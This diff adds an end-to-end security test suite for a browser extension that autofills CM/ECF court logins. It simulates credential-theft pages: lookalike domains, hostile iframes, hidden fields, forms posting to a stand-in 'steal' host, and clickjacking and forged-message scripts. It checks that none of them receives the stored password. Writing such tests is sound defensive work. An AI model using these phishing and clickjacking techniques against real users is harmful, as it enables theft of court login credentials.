@@ -1,0 +1,210 @@
+"""Pages that try to get the stored CM/ECF login: each must get no fill and no secret, in both browsers.
+
+Every page is loaded in a browser whose keyring holds the TXWD login; where the overlay offers the
+fill button, the test clicks it as a user would. Then no field on the page (or in its frames) may
+hold the password, and the host must not have released it. A control page (the genuine form,
+same harness) must be filled, so the matrix cannot pass by never clicking.
+"""
+
+from __future__ import annotations
+
+import time
+from dataclasses import dataclass, field
+
+import pytest
+from selenium.common.exceptions import WebDriverException
+from selenium.webdriver.common.by import By
+
+from ecflink.browsers import BROWSERS, launch
+from ecflink.credentials import CredentialStore
+from ecflink.sim.network import Response
+from tests.e2e.helpers import host_log, require_browser, wait_for
+
+pytestmark = [pytest.mark.e2e, pytest.mark.security]
+
+LOGIN, SECRET = "jdoe", "Ecf-Txwd-S3cret!"
+COURT = "https://ecf.txwd.uscourts.gov"
+MENU = ('<div id="topmenu" class="yuimenubar"><div class="bd"><ul class="first-of-type">'
+        '<li class="yuimenubaritem"><a class="yuimenubaritemlabel" href="/cgi-bin/DisplayMenu.pl?Utilities">Utilities</a></li>'
+        '<li class="yuimenubaritem"><a class="yuimenubaritemlabel" href="/cgi-bin/login.pl?logout">Log Out</a></li>'
+        "</ul></div></div>")
+
+
+def link_form(action="/cgi-bin/LinkAcct.pl", login_attrs="", password_attrs="", password_type="password",
+              wrapper_style="", submit_attrs="") -> str:
+    return (f'<form method="post" action="{action}"><div style="{wrapper_style}">'
+            '<h3>Link a CM/ECF account to my PACER account</h3>'
+            f'<p><label>CM/ECF login <input type="text" name="ecf_login" {login_attrs}></label></p>'
+            f'<p><label>CM/ECF password <input type="{password_type}" name="ecf_password" {password_attrs}></label></p>'
+            f'<p><input type="submit" value="Submit" {submit_attrs}></p></div></form>')
+
+
+def page(content: str, script: str = "") -> str:
+    return (f"<!DOCTYPE html><html><head><title>CM/ECF</title></head><body>{MENU}"
+            f'<div id="cmecfMainContent">{content}</div>'
+            f"{f'<script>{script}</script>' if script else ''}</body></html>")
+
+
+# Page scripts an attacker could run in a court page.
+FORGE = """
+setTimeout(() => {
+  window.postMessage({type: "fill"}, "*");
+  const host = document.querySelector("[data-ecflink]");
+  for (const type of ["pointerdown", "mousedown", "mouseup", "click"]) host?.dispatchEvent(new MouseEvent(type, {bubbles: true}));
+  try { chrome.runtime.sendMessage("dnoemiijmalcmkkakcjacpiboohkbigg", {type: "fill"}); } catch (e) {}
+  try { browser.runtime.sendMessage("ecflink@ecflink.org", {type: "fill"}); } catch (e) {}
+}, 800);"""
+COVER = """
+new MutationObserver(() => {
+  if (!document.querySelector("[data-ecflink]") || document.getElementById("decoy")) return;
+  const decoy = document.createElement("div");
+  decoy.id = "decoy";
+  decoy.textContent = "Click here to continue";
+  decoy.style.cssText = "position:fixed;right:0;bottom:0;width:420px;height:260px;background:#fff;z-index:2147483647;pointer-events:none";
+  document.documentElement.append(decoy);
+}).observe(document.documentElement, {childList: true});"""
+FADE = "document.documentElement.style.opacity = '0.05';"
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    url: str
+    html: str
+    offered: bool = False  # the overlay offers the fill button (the refusal happens at the click)
+    click: str = "when-active"  # or "at-once" or "never"
+    headers: list = field(default_factory=list)
+
+
+FRAME_PAGE = page("<p>Welcome.</p>") .replace("</div></body>", "{frame}</div></body>")
+ATTACKS = [
+    Attack("lookalike ecf-txwd", "https://ecf-txwd.uscourts.gov/cgi-bin/LinkAcct.pl", page(link_form())),
+    Attack("lookalike xecf.txwd", "https://xecf.txwd.uscourts.gov/cgi-bin/LinkAcct.pl", page(link_form())),
+    Attack("lookalike suffix", "https://ecf.txwd.uscourts.gov.evil.example/cgi-bin/LinkAcct.pl", page(link_form())),
+    Attack("uscourts.gov, not a court", "https://www.uscourts.gov/link", page(link_form())),
+    Attack("another site", "https://www.example-firm.test/link", page(link_form())),
+    Attack("appellate court host", "https://ecf.ca5.uscourts.gov/link", page(link_form())),
+    Attack("plain http", "http://ecf.txwd.uscourts.gov/cgi-bin/HttpLink.pl", page(link_form())),
+    Attack("cross-origin iframe", f"{COURT}/cgi-bin/showpage.pl?frame1",
+           FRAME_PAGE.format(frame='<iframe src="https://www.example-firm.test/link" width="600" height="300"></iframe>')),
+    Attack("lookalike iframe", f"{COURT}/cgi-bin/showpage.pl?frame2",
+           FRAME_PAGE.format(frame='<iframe src="https://ecf-txwd.uscourts.gov/cgi-bin/LinkAcct.pl" width="600" height="300"></iframe>')),
+    Attack("same-origin iframe", f"{COURT}/cgi-bin/showpage.pl?frame3",
+           FRAME_PAGE.format(frame=f'<iframe src="{COURT}/cgi-bin/LinkAcct.pl?framed" width="600" height="300"></iframe>')),
+    Attack("sandboxed iframe", f"{COURT}/cgi-bin/showpage.pl?frame4",
+           FRAME_PAGE.format(frame=f'<iframe sandbox="allow-scripts allow-forms" srcdoc=\'{page(link_form())}\' width="600" height="300"></iframe>')),
+    Attack("sandboxed page (opaque origin)", f"{COURT}/cgi-bin/LinkAcct.pl?sandboxed", page(link_form()),
+           headers=[("Content-Security-Policy", "sandbox allow-scripts allow-forms")]),
+    Attack("hidden login field", f"{COURT}/cgi-bin/LinkAcct.pl?a1", page(link_form(login_attrs='style="display:none"')), True),
+    Attack("invisible password field", f"{COURT}/cgi-bin/LinkAcct.pl?a2",
+           page(link_form(password_attrs='style="visibility:hidden"')), True),
+    Attack("zero-size password field", f"{COURT}/cgi-bin/LinkAcct.pl?a3",
+           page(link_form(password_attrs='style="width:0;height:0;padding:0;border:0"')), True),
+    Attack("transparent fields", f"{COURT}/cgi-bin/LinkAcct.pl?a4", page(link_form(wrapper_style="opacity:0")), True),
+    Attack("off-screen fields", f"{COURT}/cgi-bin/LinkAcct.pl?a5",
+           page(link_form(wrapper_style="position:absolute;left:-10000px;top:-10000px")), True),
+    Attack("disabled password field", f"{COURT}/cgi-bin/LinkAcct.pl?a6", page(link_form(password_attrs="disabled")), True),
+    Attack("read-only login field", f"{COURT}/cgi-bin/LinkAcct.pl?a7", page(link_form(login_attrs="readonly")), True),
+    Attack("password shown as text", f"{COURT}/cgi-bin/LinkAcct.pl?a8", page(link_form(password_type="text"))),
+    Attack("form posts to another site", f"{COURT}/cgi-bin/LinkAcct.pl?a9",
+           page(link_form(action="https://www.example-firm.test/steal")), True),
+    Attack("form posts over http", f"{COURT}/cgi-bin/LinkAcct.pl?a10",
+           page(link_form(action="http://ecf.txwd.uscourts.gov/cgi-bin/LinkAcct.pl")), True),
+    Attack("button posts to another site", f"{COURT}/cgi-bin/LinkAcct.pl?a11",
+           page(link_form(submit_attrs='formaction="https://www.example-firm.test/steal"')), True),
+    Attack("fill forged by page script", f"{COURT}/cgi-bin/LinkAcct.pl?a12", page(link_form(), FORGE), True, "never"),
+    Attack("no click at all", f"{COURT}/cgi-bin/LinkAcct.pl?a13", page(link_form()), True, "never"),
+    Attack("overlay covered by a decoy", f"{COURT}/cgi-bin/LinkAcct.pl?a14", page(link_form(), COVER), True),
+    Attack("page made transparent", f"{COURT}/cgi-bin/LinkAcct.pl?a15", page(link_form(), FADE), True),
+    Attack("click before the button is active", f"{COURT}/cgi-bin/LinkAcct.pl?a16", page(link_form()), True, "at-once"),
+]
+CONTROL = Attack("control: the genuine form", f"{COURT}/cgi-bin/LinkAcct.pl?control", page(link_form()), True)
+SAME_ORIGIN_FORM = f"{COURT}/cgi-bin/LinkAcct.pl?framed"
+
+
+def serve(attacks: list[Attack]):
+    pages = {a.url: a for a in attacks}
+    pages[SAME_ORIGIN_FORM] = Attack("framed form", SAME_ORIGIN_FORM, page(link_form()))
+
+    def app(request):
+        attack = pages.get(f"{request.scheme}://{request.host}{request.path}")
+        if attack is None:
+            return Response(404, b"<h1>Not Found</h1>")
+        return Response(body=attack.html.encode(), headers=list(attack.headers))
+
+    return app
+
+
+@pytest.fixture(scope="module", params=BROWSERS)
+def armed_browser(request, network, keyring_daemon, tmp_path_factory):
+    """One browser for the whole matrix, its host holding the TXWD login in the keyring."""
+    require_browser(request.param)
+    network.app = serve(ATTACKS + [CONTROL])
+    with launch(request.param, tmp_path_factory.mktemp(request.param), network) as session:
+        store = CredentialStore(session.data_dir / "credentials.json")
+        store.set("txwd", LOGIN, SECRET)
+        yield session
+        store.delete("txwd")
+
+
+def overlay_button(driver):
+    hosts = driver.find_elements(By.CSS_SELECTOR, "[data-ecflink=overlay]")
+    if not hosts:
+        return None
+    buttons = hosts[0].shadow_root.find_elements(By.CSS_SELECTOR, ".action")
+    return buttons[0] if buttons and buttons[0].is_displayed() else None
+
+
+def field_values(driver) -> list[str]:
+    """Every input's value in the page and in each of its frames."""
+    values = driver.execute_script("return [...document.querySelectorAll('input')].map(i => i.value)")
+    for index in range(len(driver.find_elements(By.TAG_NAME, "iframe"))):
+        try:
+            driver.switch_to.frame(index)
+            values += driver.execute_script("return [...document.querySelectorAll('input')].map(i => i.value)")
+        except WebDriverException:
+            pass  # a frame that cannot be entered holds nothing ecflink put there
+        finally:
+            driver.switch_to.default_content()
+    return values
+
+
+def try_attack(session, attack: Attack) -> tuple[bool, str]:
+    """Load the page, click "Fill" as a user would if offered; returns (offered, new host log)."""
+    driver = session.driver
+    before = len(host_log(session))
+    driver.get(attack.url)
+    time.sleep(0.5)
+    button = None
+    if attack.offered:
+        button = wait_for(lambda: overlay_button(driver), 10, f"the fill button on {attack.name}")
+    else:
+        time.sleep(1.0)
+        button = overlay_button(driver)
+    if button and attack.click != "never":
+        if attack.click == "when-active":
+            wait_for(lambda: button.get_attribute("aria-disabled") == "false", 5, "the button to become active")
+        try:
+            button.click()
+        except WebDriverException:
+            pass  # the click was intercepted: it did not reach ecflink
+    time.sleep(1.5)
+    return button is not None, host_log(session)[before:]
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
+def test_attack_gets_no_fill_and_no_secret(armed_browser, attack):
+    offered, log = try_attack(armed_browser, attack)
+    assert offered == attack.offered
+    assert "fill: released" not in log
+    assert SECRET not in field_values(armed_browser.driver)
+
+
+def test_matrix_is_large_enough():
+    assert len(ATTACKS) >= 20
+
+
+def test_control_the_genuine_form_is_filled(armed_browser):
+    offered, log = try_attack(armed_browser, CONTROL)
+    assert offered and "fill: released the txwd CM/ECF login" in log
+    assert SECRET in field_values(armed_browser.driver)
